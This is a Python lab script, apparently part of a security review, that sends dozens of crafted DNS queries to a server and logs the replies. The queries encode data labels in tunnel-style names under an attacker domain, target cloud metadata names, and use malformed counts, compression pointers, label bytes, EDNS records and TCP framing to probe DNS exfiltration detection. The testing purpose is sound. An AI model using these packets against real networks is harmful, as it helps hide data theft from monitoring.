#!/usr/bin/env python3
"""hostile.py SERVER OUT.json [CASE...] - send the review20 hostile DNS queries
(FINDINGS.md) from the lab's client to SERVER:53, one case at a time, 0.3 s
apart, and write what came back per case (answered or not, rcode, the answer's
question and addresses) to OUT.json. Each case's DNS id is its own (ids < 256
where a case needs the header's first byte to be zero), so the capture, the
authority's log and the sensor's events can be joined on it. Bounded: one
send per case (a TCP case: one connection), 1.5 s to wait for each answer."""
import json, socket, struct, sys, time

SERVER, OUT = sys.argv[1], sys.argv[2]
ONLY = set(sys.argv[3:])
DOM = b"exfil-lab.com"   # the attacker's domain (under a public suffix)
DATA = [b"mzxw6ytboi4dcnzrgy3tqmjv", b"gezdgnbvgy3tqojqgezdgnbv", b"on2hizlsmfwg2ylsnvqxs2lb"]


def lab(*parts):
    out = b""
    for p in parts:
        out += bytes([len(p)]) + p
    return out


def name(s):
    return lab(*s.split(b".")) + b"\0" if s not in (b"", b".") else b"\0"


def hdr(i, flags=0x0100, qd=1, an=0, ns=0, ar=0):
    return struct.pack(">HHHHHH", i, flags, qd, an, ns, ar)


A, TXT, IN = 1, 16, 1
Q = lambda nm, t=A, c=IN: nm + struct.pack(">HH", t, c)
OPT = b"\0" + struct.pack(">HHIH", 41, 1232, 0, 0)
tun = lambda k: b".".join([DATA[k % 3], DATA[(k + 1) % 3], b"t%02d" % k]) + b"." + DOM

cases = []


def case(cid, i, desc, msg, tcp=None):
    cases.append(dict(cid=cid, id=i, desc=desc, msg=msg, tcp=tcp))


case("base", 0x4101, "plain A query, tunnel-like name", hdr(0x4101) + Q(name(tun(1))))
case("base_meta", 0x4102, "plain A for metadata.google.internal",
     hdr(0x4102) + Q(name(b"metadata.google.internal")))
# counts that lie
case("qd0", 0x4103, "QDCOUNT 0, a question follows", hdr(0x4103, qd=0) + Q(name(tun(3))))
case("qd2_one", 0x4104, "QDCOUNT 2, one question", hdr(0x4104, qd=2) + Q(name(tun(4))))
case("qd2_two", 0x4105, "QDCOUNT 2: benign first, data second",
     hdr(0x4105, qd=2) + Q(name(b"www.example.org")) + Q(name(tun(5))))
case("an1_none", 0x4106, "ANCOUNT 1, no RR bytes", hdr(0x4106, an=1) + Q(name(tun(6))))
case("an1_rr", 0x4107, "ANCOUNT 1 with an RR whose owner is data",
     hdr(0x4107, an=1) + Q(name(b"www.example.org")) + name(tun(7)) + struct.pack(">HHIH", A, IN, 0, 4) + b"\1\2\3\4")
case("ns1_none", 0x4108, "NSCOUNT 1, no RR bytes", hdr(0x4108, ns=1) + Q(name(tun(8))))
case("ar1_none", 0x4109, "ARCOUNT 1, no RR bytes", hdr(0x4109, ar=1) + Q(name(tun(9))))
case("ar2_opt_rr", 0x410a, "ARCOUNT 2: OPT and an A RR whose owner is data",
     hdr(0x410a, ar=2) + Q(name(b"www.example.org")) + OPT + name(tun(10)) + struct.pack(">HHIH", A, IN, 0, 4) + b"\1\2\3\4")
case("trail", 0x410b, "16 bytes after the question", hdr(0x410b) + Q(name(tun(11))) + b"trailing-garbage")
case("trail_opt", 0x410c, "OPT then 16 bytes", hdr(0x410c, ar=1) + Q(name(tun(12))) + OPT + b"trailing-garbage")
# compression pointers in the question
case("ptr_hdr0", 0x0012, "data labels then a pointer to offset 0 (id high byte 0: root)",
     hdr(0x0012) + Q(lab(*tun(13).split(b".")) + b"\xc0\x00"))
case("ptr_hdr0_meta", 0x0013, "metadata.google.internal via a pointer to offset 0",
     hdr(0x0013) + Q(lab(b"metadata", b"google", b"internal") + b"\xc0\x00"))
case("ptr_hdr4", 0x4114, "pointer to offset 4 (QDCOUNT high byte 0: root)",
     hdr(0x4114) + Q(lab(*tun(14).split(b".")) + b"\xc0\x04"))
case("ptr_hdr_name", 0x0178, "whole name in the header: id 01 'x', flags 01 30 -> x.0",
     hdr(0x0178, flags=0x0130) + Q(b"\xc0\x00"))
case("ptr_self", 0x4115, "pointer to itself", hdr(0x4115) + Q(b"\xc0\x0c"))
case("ptr_fwd_trail", 0x4116, "data label, pointer forward to trailing bytes holding the domain",
     hdr(0x4116) + Q(lab(DATA[0]) + struct.pack(">H", 0xc000 | (12 + 25 + 2 + 4))) + name(b"t16." + DOM))
case("ptr_fwd_opt", 0x4117, "pointer forward into the OPT's option data",
     hdr(0x4117, ar=1) + Q(lab(DATA[1]) + struct.pack(">H", 0xc000 | (12 + 25 + 2 + 4 + 11 + 4))) + b"\0" + struct.pack(">HHIH", 41, 1232, 0, 4 + len(name(b"t17." + DOM))) + struct.pack(">HH", 65001, len(name(b"t17." + DOM))) + name(b"t17." + DOM))
# labels
case("ext40", 0x4119, "label type 0x40", hdr(0x4119) + Q(b"\x41" + b"a" * 1 + name(DOM)))
case("ext80", 0x411a, "label type 0x80", hdr(0x411a) + Q(b"\x81" + b"a" + name(DOM)))
case("lab_nul", 0x411b, "0x00 inside a label", hdr(0x411b) + Q(lab(b"a\0b") + name(DOM)))
case("lab_dot", 0x411c, "'.' inside a label", hdr(0x411c) + Q(lab(b"metadata.google") + name(b"internal")))
case("lab_dot2", 0x411d, "'.' inside a label, data", hdr(0x411d) + Q(lab(DATA[0] + b"." + DATA[1]) + name(DOM)))
case("lab_bs", 0x411e, "'\\' inside a label", hdr(0x411e) + Q(lab(b"a\\b") + name(DOM)))
case("lab_hi", 0x411f, "bytes >= 0x80 inside a label", hdr(0x411f) + Q(lab(bytes(range(0x80, 0x90))) + name(DOM)))
case("lab_sp", 0x4120, "space inside a label", hdr(0x4120) + Q(lab(b"a b") + name(DOM)))
case("upper", 0x4121, "0x20 mixed case metadata name", hdr(0x4121) + Q(name(b"MeTaDaTa.GoOgLe.InTeRnAl")))
case("upper_tun", 0x4122, "0x20 mixed case tunnel name", hdr(0x4122) + Q(name(tun(22).upper())))
n255 = [b"a" * 63, b"b" * 63, b"c" * 63] + [b"d" * 47] + DOM.split(b".")
case("len255", 0x4123, "name of exactly 255 octets", hdr(0x4123) + Q(lab(*n255) + b"\0"))
n256 = [b"a" * 63, b"b" * 63, b"c" * 63] + [b"d" * 48] + DOM.split(b".")
case("len256", 0x4124, "name of 256 octets", hdr(0x4124) + Q(lab(*n256) + b"\0"))
n276 = [b"e%02d" % k + b"x" * 56 for k in range(4)] + [b"f" * 20] + DOM.split(b".")
case("len276", 0x4160, "name of 276 octets (no pointers)", hdr(0x4160) + Q(lab(*n276) + b"\0"))
n1000 = [b"g%02d" % k + b"y" * 59 for k in range(15)] + [b"h" * 20] + DOM.split(b".")
case("len1000", 0x4161, "name of about 1000 octets (no pointers)", hdr(0x4161) + Q(lab(*n1000) + b"\0"))
case("root", 0x4125, "root question", hdr(0x4125) + Q(b"\0", t=2))
# EDNS
case("opt_owner", 0x4126, "OPT with a non-root owner", hdr(0x4126, ar=1) + Q(name(tun(26))) + b"\1x\0" + OPT[1:])
case("opt_overrun", 0x4127, "OPT option runs past its rdata", hdr(0x4127, ar=1) + Q(name(tun(27))) + b"\0" + struct.pack(">HHIH", 41, 1232, 0, 4) + struct.pack(">HH", 10, 8))
case("opt_two", 0x4128, "two OPT records", hdr(0x4128, ar=2) + Q(name(tun(28))) + OPT + OPT)
case("opt_in_an", 0x4129, "OPT in the answer section", hdr(0x4129, an=1) + Q(name(tun(29))) + OPT)
case("opt_in_ns", 0x412a, "OPT in the authority section", hdr(0x412a, ns=1) + Q(name(tun(30))) + OPT)
case("edns_v1", 0x412b, "EDNS version 1", hdr(0x412b, ar=1) + Q(name(tun(31))) + b"\0" + struct.pack(">HHIH", 41, 1232, 0x00010000, 0))
# header bits
for op in (1, 2, 4, 5, 6, 15):
    case("opcode%d" % op, 0x4130 + op, "opcode %d" % op, hdr(0x4130 + op, flags=(op << 11) | 0x0100) + Q(name(tun(30 + op))))
case("qr1", 0x4140, "QR=1 in a query", hdr(0x4140, flags=0x8100) + Q(name(tun(40))))
case("tc1", 0x4141, "TC set in a query", hdr(0x4141, flags=0x0300) + Q(name(tun(41))))
case("rcode5", 0x4142, "rcode 5 in a query", hdr(0x4142, flags=0x0105) + Q(name(tun(42))))
case("z1", 0x4143, "Z bit in a query", hdr(0x4143, flags=0x0140) + Q(name(tun(43))))
case("ch", 0x4144, "class CH", hdr(0x4144) + Q(name(tun(44)), c=3))
case("any", 0x4145, "class ANY", hdr(0x4145) + Q(name(tun(45)), c=255))
case("none", 0x4146, "class NONE", hdr(0x4146) + Q(name(tun(46)), c=254))
case("cls_other", 0x4147, "class 0x1234", hdr(0x4147) + Q(name(tun(47)), c=0x1234))
case("qt0", 0x4148, "qtype 0", hdr(0x4148) + Q(name(tun(48)), t=0))
case("qt_any", 0x4149, "qtype ANY", hdr(0x4149) + Q(name(tun(49)), t=255))
case("qt_axfr_udp", 0x414a, "qtype AXFR over UDP", hdr(0x414a) + Q(name(tun(50)), t=252))
case("short_q", 0x414b, "question without its class", hdr(0x414b) + name(tun(51)) + b"\0\1")
# TCP
m = lambda i, k: hdr(i) + Q(name(tun(k)))
L = lambda b: struct.pack(">H", len(b)) + b
case("tcp_two_seg", 0x4150, "TCP: two queries in one segment", None, tcp=[L(m(0x4150, 60)) + L(m(0x4151, 61))])
case("tcp_split_len", 0x4152, "TCP: one length byte, then the rest", None, tcp=[L(m(0x4152, 62))[:1], L(m(0x4152, 62))[1:]])
case("tcp_len_big", 0x4153, "TCP: prefix 10 larger than the message, then a second query",
     None, tcp=[struct.pack(">H", len(m(0x4153, 63)) + 10) + m(0x4153, 63) + L(m(0x4154, 64))])
case("tcp_garbage", 0x4155, "TCP: two pipelined queries then garbage",
     None, tcp=[L(m(0x4155, 65)) + L(m(0x4156, 66)) + b"\x00\x05GARBAGE-GARBAGE"])
case("tcp_len_small", 0x4157, "TCP: prefix smaller than the message (question cut), then a query",
     None, tcp=[struct.pack(">H", 20) + m(0x4157, 67) + L(m(0x4158, 68))])
case("tcp_trail_in", 0x4159, "TCP: message with bytes after the question inside its length",
     None, tcp=[L(m(0x4159, 69) + b"trailing-garbage")])
case("tcp_ptr_hdr0", 0x005a, "TCP: pointer to offset 0",
     None, tcp=[L(hdr(0x005a) + Q(lab(*tun(70).split(b".")) + b"\xc0\x00"))])


def parse_answer(b):
    if len(b) < 12:
        return {"short": b.hex()}
    i, fl, qd, an, ns, ar = struct.unpack(">6H", b[:12])
    return {"id": i, "rcode": fl & 15, "flags": "%04x" % fl, "counts": [qd, an, ns, ar], "len": len(b)}


def run(c):
    res = {"cid": c["cid"], "id": c["id"], "desc": c["desc"], "t": time.time(), "replies": []}
    if c["tcp"] is None:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1.5)
        s.sendto(c["msg"], (SERVER, 53))
        try:
            d, _ = s.recvfrom(65535)
            res["replies"].append(parse_answer(d))
        except socket.timeout:
            pass
        s.close()
    else:
        s = socket.create_connection((SERVER, 53), timeout=1.5)
        s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for k, seg in enumerate(c["tcp"]):
            if k:
                time.sleep(0.1)
            s.send(seg)
        buf, end = b"", time.time() + 1.5
        while time.time() < end:
            try:
                d = s.recv(65535)
            except (socket.timeout, OSError):
                break
            if not d:
                break
            buf += d
        while len(buf) >= 2:
            n = struct.unpack(">H", buf[:2])[0]
            res["replies"].append(parse_answer(buf[2:2 + n]))
            buf = buf[2 + n:]
        s.close()
    return res


out = []
for c in cases:
    if ONLY and c["cid"] not in ONLY:
        continue
    out.append(run(c))
    time.sleep(0.3)
json.dump(out, open(OUT, "w"), indent=1)
